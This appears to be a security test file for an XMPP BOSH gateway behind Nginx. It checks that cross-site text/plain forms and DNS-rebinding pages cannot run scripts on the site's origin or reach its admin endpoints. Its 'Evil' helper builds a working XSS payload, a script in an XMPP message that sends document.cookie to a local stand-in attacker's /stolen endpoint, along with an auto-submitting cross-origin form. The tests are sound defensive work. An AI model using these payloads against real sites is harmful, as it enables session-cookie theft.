// Pages of somebody else in Chromium: what they get by a form that the gateway answers behind Nginx, on the
// origin of the site; and what they get on a machine where the gateway runs.

import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';

import { Browser } from '../clients/browser.mjs';
import { Site, domain, freePorts, root, until } from '../clients/support.mjs';

const HTTPBIND = "xmlns='http://jabber.org/protocol/httpbind'";
const SASL = 'urn:ietf:params:xml:ns:xmpp-sasl';
const FIELD = 'text/plain';

/** Nginx with the example of this repository, and some of it replaced. */
async function startNginx(site, name, changes) {
  for (let attempt = 0; attempt < 10; attempt += 1) {
    const [http, https] = await freePorts(2);
    const folder = join(site.folder, `${name}-${attempt}`);
    mkdirSync(join(folder, 'html'), { recursive: true });
    for (const kind of ['crt', 'key']) copyFileSync(join(root, `certs/localhost.${kind}`), join(folder, `site.${kind}`));
    // Somebody is logged in to the site.
    writeFileSync(join(folder, 'html/index.html'), `<!DOCTYPE html><title>the site</title>
      <script>document.cookie = 'login=precious; Secure; SameSite=Lax'</script>`);
    const own = ['client_body', 'proxy', 'fastcgi', 'uwsgi', 'scgi']
      .map((part) => `${part}_temp_path ${part};`).join(' ');
    let config = readFileSync(join(root, 'nginx-example.conf'), 'utf8');
    for (const [from, to] of [
      ['listen [::]:80;', ''],
      ['listen [::]:443 ssl http2;', ''],
      ['listen 80;', `listen 127.0.0.1:${http};`],
      ['listen 443 ', `listen 127.0.0.1:${https} `],
      ['server 127.0.0.1:5290;', `server 127.0.0.1:${site.port};`],
      ['ssl_certificate /etc/ssl/certs/ssl-cert-snakeoil.pem', `ssl_certificate ${join(folder, 'site.crt')}`],
      ['ssl_certificate_key /etc/ssl/private/ssl-cert-snakeoil.key', `ssl_certificate_key ${join(folder, 'site.key')}`],
      ['root /var/www/html;', `root ${join(folder, 'html')};`],
      ...changes,
    ]) {
      assert.ok(config.includes(`  ${from}`), `${from} is there`);
      config = config.replaceAll(`  ${from}`, `  ${to}`);
    }
    writeFileSync(join(folder, 'nginx.conf'),
      `events {}\nhttp {\ninclude /etc/nginx/mime.types; access_log off; ${own}\n${config}}\n`);
    // The folder is the tests' own, so that those who work for root have to be root.
    const user = process.getuid() === 0 ? 'user root;' : '';
    const program = site.start(`${name}-${attempt}`, 'nginx', ['-p', folder, '-c', join(folder, 'nginx.conf'),
      '-e', 'stderr', '-g', `pid nginx.pid; daemon off; error_log stderr notice; ${user}`],
    { env: { ...process.env, PATH: `${process.env.PATH}:/usr/sbin` } });
    await until(() => program.over || program.output().includes('start worker process '), `${name} to start`);
    if (!program.over) return `https://${domain}:${https}`;
    assert.match(program.output(), /Address already in use/);
  }
  return assert.fail('no free ports for Nginx');
}

/** A BOSH session by hand. */
class Session {
  static async login(site, user) {
    const session = Object.assign(new Session(), { site, rid: 1000, attributes: '' });
    const created = await session.send(`to='${domain}' wait='1' hold='1' ver='1.6' xml:lang='en'
      xmpp:version='1.0' xmlns:xmpp='urn:xmpp:xbosh'`);
    [, session.sid] = / sid=["']([0-9a-f]+)/.exec(created);
    session.attributes = ` sid='${session.sid}'`;
    const plain = Buffer.from(`\0${user}\0${site.password(user)}`).toString('base64');
    assert.match(await session.send('', `<auth xmlns='${SASL}' mechanism='PLAIN'>${plain}</auth>`), /<success/);
    await session.send(`to='${domain}' xmpp:restart='true' xmlns:xmpp='urn:xmpp:xbosh'`);
    await session.send('', `<iq xmlns='jabber:client' type='set' id='bind'>
      <bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'><resource>web</resource></bind></iq>`);
    return session;
  }

  /** The next request. */
  request(attributes = '', payload = '') {
    return `<body ${HTTPBIND} rid='${this.rid + 1}'${this.attributes} ${attributes}>${payload}</body>`;
  }

  async send(attributes, payload) {
    const response = await fetch(this.site.url, {
      method: 'POST', body: this.request(attributes, payload),
    });
    this.rid += 1;
    assert.equal(response.status, 200);
    return response.text();
  }

  /** Asks until something comes that fits. */
  async receive(wanted) {
    return until(async () => {
      const answer = await this.send();
      assert.doesNotMatch(answer, /type=["']terminate/, 'the session goes on');
      return wanted.test(answer) && answer;
    }, wanted.source);
  }
}

/** Where stolen goods are brought, and the pages that have them stolen. */
class Evil {
  static async start() {
    const evil = new Evil();
    evil.stolen = [];
    evil.server = createServer((req, res) => {
      const url = new URL(req.url, 'http://localhost');
      if (url.pathname === '/stolen') evil.stolen.push(url.searchParams.get('it'));
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(evil.page ?? '');
    });
    await new Promise((done) => { evil.server.listen(0, '127.0.0.1', done); });
    evil.url = `http://127.0.0.1:${evil.server.address().port}`;
    return evil;
  }

  /** A message whose script, where it runs, tells what it can read. */
  message(to, id) {
    const code = `new Image().src = '${this.url}/stolen?it=${id} ' + document.domain + ' ' + document.cookie`;
    return `<message xmlns='jabber:client' to='${to}' id='${id}'><body>${id}</body>
      <script xmlns='http://www.w3.org/1999/xhtml'>${code.replaceAll('\'', '&apos;')}</script></message>`;
  }

  /** A page that sends this to the site, as text, and has the browser show the answer there. */
  form(to, body, target) {
    // A form of this kind says NAME=VALUE.
    const [name, value] = [body.slice(0, body.indexOf('=')), body.slice(body.indexOf('=') + 1)];
    const escape = (text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
    this.page = `<!DOCTYPE html><iframe name="frame"></iframe>
      <form method="post" enctype="${FIELD}" action="${to}" target="${target}">
      <input type="hidden" name="${escape(name)}" value="${escape(value)}"></form>
      <script>document.forms[0].submit()</script>`;
  }

  stop() {
    this.server.closeAllConnections();
    this.server.close();
  }
}

describe('a form of another page', () => {
  const OLD = [
    'proxy_set_header Connection $rostergate_connection;',
    'proxy_set_header Connection $rostergate_connection; proxy_set_header Sec-Fetch-Mode ""; proxy_set_header Sec-Fetch-Dest "";',
  ];
  const UNGUARDED = [OLD[0], `${OLD[1]} proxy_hide_header Content-Security-Policy;`];
  let site;
  let browser;
  let evil;
  before(async () => {
    evil = await Evil.start();
    site = await Site.start({ users: { mallory: {}, trudy: {} } });
    browser = await Browser.start(site, {}, {
      switches: [`--host-resolver-rules=MAP ${domain} 127.0.0.1`, '--ignore-certificate-errors'],
    });
  });
  after(async () => {
    await browser?.stop();
    await site?.stop();
    evil?.stop();
  });

  /** Has a form fetch a message with a script, and gives what came of it. */
  async function attack(origin, id, target) {
    const session = await Session.login(site, 'mallory');
    const trudy = await Session.login(site, 'trudy');
    await trudy.send('', evil.message(`mallory@${domain}/web`, id));
    const page = await browser.context.newPage();
    await page.goto(`${origin}/`);
    assert.match(await page.evaluate(() => document.cookie), /login=precious/);
    evil.form(`${origin}/http-bind`, session.request(), target);
    const answered = page.waitForResponse(`${origin}/http-bind`);
    await page.goto(evil.url);
    const answer = await answered;
    await answer.finished();
    const frame = target === 'frame' ? page.frame('frame') : page.mainFrame();
    await frame.waitForURL(`${origin}/http-bind`, { waitUntil: 'load' });
    return { session, page, frame, status: answer.status(), headers: answer.headers() };
  }

  for (const target of ['_self', 'frame']) {
    test(`gets nothing, and the client everything (${target})`, async () => {
      const origin = await startNginx(site, `nginx${target}`, []);
      const id = `new${target}`;
      const { session, page, status } = await attack(origin, id, target);
      assert.equal(status, 403);
      assert.match(await session.receive(new RegExp(`id=["']${id}`)), /<script/);
      assert.deepEqual(evil.stolen, []);
      await page.close();
    });

    test(`runs nothing in a browser that does not say what it asks for (${target})`, async () => {
      const origin = await startNginx(site, `old${target}`, [OLD]);
      const id = `old${target}`;
      const { session, page, frame, status, headers } = await attack(origin, id, target);
      assert.equal(status, 200);
      assert.match(headers['content-type'], /^text\/xml/);
      assert.match(await frame.evaluate(() => document.documentElement.outerHTML), /<script/);
      assert.equal(await frame.evaluate(() => window.origin), 'null');
      // The client that repeats the request gets the same answer.
      assert.match(await session.receive(new RegExp(`id=["']${id}`)), /<script/);
      assert.deepEqual(evil.stolen, []);
      await page.close();
    });
  }

  test('would get the cookies of the site, were it not for that', async () => {
    const origin = await startNginx(site, 'unguarded', [UNGUARDED]);
    const { page } = await attack(origin, 'unguarded', '_self');
    await until(() => evil.stolen.length > 0, 'the cookie');
    assert.deepEqual(evil.stolen, [`unguarded ${domain} login=precious`]);
    await page.close();
  });
});

describe('a page on the machine of the gateway', () => {
  const REBOUND = 'rebound.example';
  let site;
  let browser;
  let evil;
  before(async () => {
    evil = await Evil.start();
    site = await Site.start({ users: { alice: { 'bob@example.org': { name: 'Bob' } } } });
    // What its owner tells the DNS once the page is there.
    const switches = [`--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`,
      // Which other browsers do not have.
      '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests'];
    browser = await Browser.start(site, {}, { switches });
  });
  after(async () => {
    await browser?.stop();
    await site?.stop();
    evil?.stop();
  });

  const PATHS = ['status', 'sessions', 'rosters/alice', 'refresh/alice', '../metrics'];

  /** What a page gets to read there, and how often alice's list was refreshed by it. */
  async function asking(page, base) {
    const before = await refreshes();
    const read = await page.evaluate(async ([root, paths]) => {
      const ask = (path, init) => fetch(root + path, init).then((answer) => answer.status, () => 'nothing');
      const statuses = [];
      for (const path of paths) statuses.push(await ask(path));
      statuses.push(await ask('refresh', { method: 'POST', body: '["alice"]' }));
      for (const path of paths) await ask(path, { mode: 'no-cors' });
      await ask('refresh', { method: 'POST', body: '["alice"]', mode: 'no-cors' });
      return statuses;
    }, [`${base}/roster_admin/`, PATHS]);
    return { read, refreshed: await refreshes() - before };
  }

  async function refreshes() {
    const metrics = await fetch(`http://127.0.0.1:${site.port}/metrics`).then((answer) => answer.text());
    return Number(/^rostergate_refreshed_users_total\{outcome="updated"\} (\d+)/m.exec(metrics)?.[1] ?? 0);
  }

  test('reads and does nothing, though its name leads here', async () => {
    const base = `http://${REBOUND}:${site.port}`;
    const page = await browser.context.newPage();
    // The page itself was loaded before its name led here.
    await page.route(`${base}/`, (route) => route.fulfill({ contentType: 'text/html', body: '<title>evil</title>' }));
    await page.goto(`${base}/`);
    assert.equal(await page.evaluate(() => window.origin), base);
    assert.deepEqual(await asking(page, base), { read: [403, 403, 403, 403, 403, 403], refreshed: 0 });
    await page.close();
  });

  test('reads and does nothing by the names of this machine', async () => {
    const page = await browser.context.newPage();
    await page.goto(evil.url);
    for (const name of ['127.0.0.1', 'localhost']) {
      assert.deepEqual(await asking(page, `http://${name}:${site.port}`),
        { read: Array(6).fill('nothing'), refreshed: 0 });
    }
    await page.close();
  });

  test('is not the status page, which only looks', async () => {
    const base = `http://127.0.0.1:${site.port}`;
    await site.change('alice', {});
    assert.equal(await refreshes(), 1, 'programs may have it done');
    const page = await browser.context.newPage();
    await page.goto(`${base}/roster_admin/`);
    await page.waitForFunction(() => document.getElementById('state').innerText.startsWith('Running for '));
    const { read, refreshed } = await asking(page, '');
    assert.deepEqual([read, refreshed], [[200, 200, 404, 403, 200, 403], 0]);
    await page.close();
  });
});
